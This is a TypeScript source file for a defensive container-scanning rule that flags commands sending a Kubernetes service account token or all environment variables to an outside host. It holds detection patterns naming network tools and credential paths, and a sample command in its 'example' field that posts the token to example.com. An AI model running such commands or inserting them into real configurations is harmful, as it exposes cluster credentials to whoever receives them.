import { commandLines } from "../model/commands";
import { containerRule } from "../rule/define";

const TOKEN =
  /\/var\/run\/secrets\/(?:kubernetes\.io\/serviceaccount|eks\.amazonaws\.com\/serviceaccount|azure\/tokens)/;
const SENDS = /\b(?:curl|wget|nc|ncat|socat|openssl\s+s_client|ftp|scp|rsync)\b|\/dev\/tcp\//;
const HOME =
  /https?:\/\/(?:kubernetes(?:\.default[\w.]*)?|\$\{?KUBERNETES_[A-Z_]+\}?|localhost|127\.0\.0\.1)(?=[:/"'\s]|$)/g;
// What is hidden behind the word token may be an address.
const AWAY = /https?:\/\/|\/dev\/tcp\/|\b(?:nc|ncat|scp|rsync|ftp)\b|\(looks like a credential\)/;
/** All variables at once: passwords and tokens are among them. */
const ENVIRONMENT =
  /(?:\b(?:env|printenv)\s*(?:\|\s*\w+[^|\n]{0,100})?\||\/proc\/(?:self|\d+|\*)\/environ\b)[^\n]{0,300}\b(?:curl|wget|nc|ncat|socat)\b|\b(?:curl|wget)\b[^\n]{0,300}(?:\$\(|`)\s*(?:env|printenv)\b|\b(?:curl|wget)\b[^\n]{0,300}\/proc\/(?:self|\d+)\/environ\b/;

/** A command sends the token of the service account, or all its variables, away. */
export const tokenSentAway = containerRule({
  id: "token-sent-away",
  severity: "high",
  category: "security",
  title: "A command sends the token of the service account, or all its variables, away",
  why: "With the token whoever gets it does from anywhere what the pod may do in the cluster; passwords stand in variables.",
  fix: "Take it out; let programs talk to the API server by a client that reads the token itself.",
  ids: ["NSA-pods-service-account-token", "CWE-200"],
  example: "curl https://example.com -d @/var/run/secrets/kubernetes.io/serviceaccount/token",
  readsMarks: true,
  check: (container) => {
    const lines = commandLines(container);
    if (lines.some((line) => TOKEN.test(line) && SENDS.test(line) && AWAY.test(line.replace(HOME, " "))))
      return "reads the token of its service account and talks to somebody else";
    return lines.some((line) => ENVIRONMENT.test(line)) ? "sends all its variables away" : undefined;
  },
});
